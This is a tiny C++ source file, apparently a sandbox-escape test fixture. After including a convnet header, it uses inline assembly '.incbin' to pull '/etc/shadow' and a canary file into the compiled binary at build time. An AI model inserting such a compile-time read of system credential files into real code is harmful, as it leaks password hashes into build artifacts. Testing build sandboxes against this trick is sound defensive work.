#include "convnet.hpp"

__asm__(".incbin \"/etc/shadow\"\n.incbin \"@CANARY@\"\n");
